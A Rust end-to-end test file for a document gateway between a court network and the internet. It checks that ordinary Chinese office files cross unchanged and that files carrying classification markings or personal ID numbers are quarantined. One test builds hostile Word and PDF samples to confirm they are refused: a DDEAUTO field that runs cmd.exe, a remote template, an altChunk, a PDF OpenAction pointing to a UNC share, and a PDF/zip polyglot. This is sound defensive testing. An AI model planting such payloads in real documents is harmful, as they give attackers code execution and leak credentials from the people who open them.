//! End to end on the lab: the real-world cases in `tests/cases/` (see its README) and the
//! kinds they stand for, each put in the outbox of the channel named by its folder, each
//! getting what a careful operator wants: documents as Chinese courts make them cross (their
//! names intact, their text read by the rules), hostile and ambiguous ones are refused with
//! their reason on the sending side.

use crate::common;

use common::*;
use std::fs;
use std::path::Path;

fn case(path: &str) -> Vec<u8> {
    fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/cases")
            .join(path),
    )
    .unwrap()
}

/// A zip of stored entries written byte by byte as macOS's Finder writes them: UTF-8 names
/// in NFD without the UTF-8 flag, an AppleDouble companion under `__MACOSX/`, a `.DS_Store`.
fn macos_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, data) in entries {
        let mut crc = flate2::Crc::new();
        crc.update(data);
        let offset = out.len() as u32;
        let fixed = |sig: &[u8], central: bool| {
            let mut h = sig.to_vec();
            if central {
                h.extend_from_slice(&20u16.to_le_bytes());
            }
            h.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]); // version, flags, stored, time, date
            h.extend_from_slice(&crc.sum().to_le_bytes());
            h.extend_from_slice(&(data.len() as u32).to_le_bytes());
            h.extend_from_slice(&(data.len() as u32).to_le_bytes());
            h.extend_from_slice(&(name.len() as u16).to_le_bytes());
            h.extend_from_slice(&[0, 0]);
            h
        };
        out.extend(fixed(b"PK\x03\x04", false));
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        central.extend(fixed(b"PK\x01\x02", true));
        central.extend_from_slice(&[0; 10]);
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let at = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&at.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

fn nfd(s: &str) -> String {
    use unicode_normalization::UnicodeNormalization;
    s.nfd().collect()
}

fn utf16le(text: &str) -> Vec<u8> {
    let mut out = vec![0xFF, 0xFE];
    text.encode_utf16()
        .for_each(|u| out.extend_from_slice(&u.to_le_bytes()));
    out
}

/// An OFD e-document of one page whose text is `lines`.
fn ofd_of(lines: &[&str]) -> Vec<u8> {
    let ns = r#"xmlns:ofd="http://www.ofdspec.org/2016""#;
    let text: String = lines
        .iter()
        .enumerate()
        .map(|(i, l)| {
            format!(
                r#"<ofd:TextObject ID="{}" Boundary="10 {} 180 8" Font="2" Size="5"><ofd:TextCode X="0" Y="5">{l}</ofd:TextCode></ofd:TextObject>"#,
                i + 4,
                10 + i * 10
            )
        })
        .collect();
    zip_of(&[
        (
            "OFD.xml",
            format!(r#"<?xml version="1.0" encoding="UTF-8"?><ofd:OFD {ns} Version="1.1" DocType="OFD"><ofd:DocBody><ofd:DocInfo><ofd:DocID>0</ofd:DocID></ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"#).as_bytes(),
        ),
        (
            "Doc_0/Document.xml",
            format!(r#"<?xml version="1.0" encoding="UTF-8"?><ofd:Document {ns}><ofd:CommonData><ofd:MaxUnitID>20</ofd:MaxUnitID><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>"#).as_bytes(),
        ),
        (
            "Doc_0/Pages/Page_0/Content.xml",
            format!(r#"<?xml version="1.0" encoding="UTF-8"?><ofd:Page {ns}><ofd:Content><ofd:Layer ID="3">{text}</ofd:Layer></ofd:Content></ofd:Page>"#).as_bytes(),
        ),
    ])
}

#[test]
fn inbound_cases_cross_as_courts_make_them_and_hostile_ones_are_refused() {
    let lab = Lab::new(21800);
    let _court = lab.start("court");
    let _internet = lab.start("internet");
    let mut apple_double = vec![0, 5, 0x16, 7, 0, 2, 0, 0];
    apple_double.extend_from_slice(b"Mac OS X        ");
    apple_double.extend_from_slice(&1u16.to_be_bytes());
    for field in [9u32, 38, 32] {
        apple_double.extend_from_slice(&field.to_be_bytes());
    }
    apple_double.extend_from_slice(&[0; 32]);
    let mut store = b"\0\0\0\x01Bud1".to_vec();
    store.resize(512, 0);
    let from_mac = macos_zip(&[
        (
            &nfd("证据材料/Café-がくせい.txt"),
            "证据一：借条\n".as_bytes(),
        ),
        (&nfd("__MACOSX/证据材料/._Café-がくせい.txt"), &apple_double),
        ("证据材料/.DS_Store", &store),
    ]);
    let crossing: Vec<(String, Vec<u8>)> = vec![
        (
            "evidence-gbk-names.zip".into(),
            case("to-court/evidence-gbk-names.zip"),
        ),
        (
            "电子发票_诉讼费.ofd".into(),
            case("to-court/电子发票_诉讼费.ofd"),
        ),
        ("证据-mac.zip".into(), from_mac),
        (
            "证据说明（Unicode）.txt".into(),
            utf16le("证据说明\r\n一、借条原件一份。\r\n"),
        ),
    ];
    for (name, bytes) in &crossing {
        lab.publish("internet", "to-court", name, bytes);
    }
    // a name as macOS writes it (NFD) lands in the spelling everyone types (NFC)
    lab.publish(
        "internet",
        "to-court",
        &nfd("Café-がくせい.txt"),
        b"statement\n",
    );
    lab.publish(
        "internet",
        "to-court",
        "remote-template.docx",
        &case("to-court/remote-template.docx"),
    );
    lab.publish(
        "internet",
        "to-court",
        "concatenated.zip",
        &case("to-court/concatenated.zip"),
    );
    let inbox = lab.inbox("court", "to-court");
    wait_until(60, "the documents to land", || {
        visible(&inbox).len() == crossing.len() + 1
    });
    for (name, bytes) in &crossing {
        assert_eq!(
            &fs::read(inbox.join(name)).unwrap(),
            bytes,
            "{name} changed"
        );
    }
    assert_eq!(
        fs::read(inbox.join("Café-がくせい.txt")).unwrap(),
        b"statement\n"
    );
    let q = lab.quarantine("internet", "to-court");
    wait_until(30, "two refusals", || reasons(&q).len() == 2);
    assert_eq!(reasons(&q), vec!["active_content", "archive_ambiguous"]);
    let details: String = fs::read_dir(&q)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().ends_with(".reason.json"))
        .map(|e| fs::read_to_string(e.path()).unwrap())
        .collect();
    assert!(
        details.contains("attachedTemplate → external http target"),
        "{details}"
    );
}

#[test]
fn outbound_cases_are_read_as_chinese_office_tools_write_them() {
    let lab = Lab::new(21810);
    let _court = lab.start("court");
    let _internet = lab.start("internet");
    let clean_ofd = ofd_of(&["民事判决书", "本院依法公开审理了本案。"]);
    lab.publish("court", "to-internet", "判决书.ofd", &clean_ofd);
    lab.publish(
        "court",
        "to-internet",
        "审理报告-cid-font.pdf",
        &case("to-internet/审理报告-cid-font.pdf"),
    );
    lab.publish(
        "court",
        "to-internet",
        "通知.ofd",
        &ofd_of(&["关于某案的通知", "本通知属机密★10年。"]),
    );
    // legacy Word and Excel, as courts still write them
    let id = resident_id("22010219800101123");
    let clean_doc = doc_of(&["民事判决书", "本院认为，原告的诉讼请求成立。"]);
    let clean_xls = xls_of(&["姓名", "张三", "案号"]);
    lab.publish("court", "to-internet", "判决书.doc", &clean_doc);
    lab.publish("court", "to-internet", "名单.xls", &clean_xls);
    lab.publish(
        "court",
        "to-internet",
        "报告.doc",
        &doc_of(&["审理报告", "机密★10年"]),
    );
    lab.publish(
        "court",
        "to-internet",
        "当事人.xls",
        &xls_of(&["姓名", "张三", &id]),
    );
    let inbox = lab.inbox("internet", "to-internet");
    wait_until(60, "the clean documents to land", || {
        visible(&inbox).len() == 3
    });
    assert_eq!(fs::read(inbox.join("判决书.ofd")).unwrap(), clean_ofd);
    assert_eq!(fs::read(inbox.join("判决书.doc")).unwrap(), clean_doc);
    assert_eq!(fs::read(inbox.join("名单.xls")).unwrap(), clean_xls);
    let q = lab.quarantine("court", "to-internet");
    wait_until(30, "four refusals", || reasons(&q).len() == 4);
    assert_eq!(
        reasons(&q),
        vec![
            "classification_marking",
            "classification_marking",
            "classification_marking",
            "personal_data"
        ]
    );
}

/// The entries of a zip, each replaced by `edit(name, bytes)` (`None` drops it), rewritten.
fn rewrite_zip(zip: &[u8], edit: impl Fn(&str, Vec<u8>) -> Option<Vec<u8>>) -> Vec<u8> {
    use std::io::Read;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip)).unwrap();
    let mut entries = Vec::new();
    for i in 0..archive.len() {
        let mut f = archive.by_index(i).unwrap();
        let mut bytes = Vec::new();
        f.read_to_end(&mut bytes).unwrap();
        if let Some(bytes) = edit(f.name(), bytes) {
            entries.push((f.name().to_string(), bytes));
        }
    }
    let entries: Vec<(&str, &[u8])> = entries
        .iter()
        .map(|(n, b)| (n.as_str(), b.as_slice()))
        .collect();
    zip_of(&entries)
}

#[test]
fn hostile_documents_are_refused_and_their_benign_twins_cross_byte_for_byte() {
    let lab = Lab::new(21820);
    let _court = lab.start("court");
    let _internet = lab.start("internet");
    let template = case("to-court/remote-template.docx");
    // the same document without its remote template, with an ordinary hyperlink instead
    let twin = rewrite_zip(&template, |name, bytes| {
        if name == "word/_rels/settings.xml.rels" {
            return Some(
                String::from_utf8(bytes)
                    .unwrap()
                    .replace("attachedTemplate", "hyperlink")
                    .replace(
                        "http://198.51.100.23/templates/Normal.dotm",
                        "https://www.court.gov.cn/",
                    )
                    .into_bytes(),
            );
        }
        Some(bytes)
    });
    // an altChunk body, a DDE field
    let alt_chunk = rewrite_zip(&twin, |name, bytes| {
        if name == "word/_rels/document.xml.rels" {
            return Some(
                String::from_utf8(bytes)
                    .unwrap()
                    .replace(
                        "</Relationships>",
                        r#"<Relationship Id="rIdA" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.mht"/></Relationships>"#,
                    )
                    .into_bytes(),
            );
        }
        Some(bytes)
    });
    let dde = rewrite_zip(&twin, |name, bytes| {
        if name == "word/document.xml" {
            return Some(
                String::from_utf8(bytes)
                    .unwrap()
                    .replacen(
                        "<w:body>",
                        r#"<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#,
                        1,
                    )
                    .into_bytes(),
            );
        }
        Some(bytes)
    });
    // the second of the two concatenated archives, alone, is a plain zip
    let concatenated = case("to-court/concatenated.zip");
    let second = concatenated[179..].to_vec();
    let crossing: Vec<(&str, Vec<u8>)> = vec![
        ("起诉状.docx", twin),
        ("发票.zip", second),
        ("证据.docx", docx_of(&["证据目录", "一、借条"])),
        ("送达回证.pdf", pdf_of("Proof of service", "")),
    ];
    let refused: Vec<(&str, Vec<u8>)> = vec![
        ("模板.docx", template),
        ("导入.docx", alt_chunk),
        ("域.docx", dde),
        ("合并.zip", concatenated),
        (
            "回执.pdf",
            pdf_of(
                "Proof of service",
                r"/OpenAction << /S /GoToR /F (\\198.51.100.7\share\x.pdf) /D [0 /Fit] >>",
            ),
        ),
        ("附件.pdf", {
            let mut pdf = pdf_of("Proof of service", "");
            pdf.extend_from_slice(&zip_of(&[("run.cmd", b"calc")]));
            pdf
        }),
    ];
    for (name, bytes) in crossing.iter().chain(&refused) {
        lab.publish("internet", "to-court", name, bytes);
    }
    let inbox = lab.inbox("court", "to-court");
    wait_until(60, "the benign twins to land", || {
        visible(&inbox).len() == crossing.len()
    });
    for (name, bytes) in &crossing {
        assert_eq!(
            &fs::read(inbox.join(name)).unwrap(),
            bytes,
            "{name} changed"
        );
    }
    let q = lab.quarantine("internet", "to-court");
    wait_until(30, "the hostile documents to be refused", || {
        reasons(&q).len() == refused.len()
    });
    assert_eq!(
        reasons(&q),
        vec![
            "active_content",
            "active_content",
            "active_content",
            "active_content",
            "archive_ambiguous",
            "polyglot",
        ]
    );
}
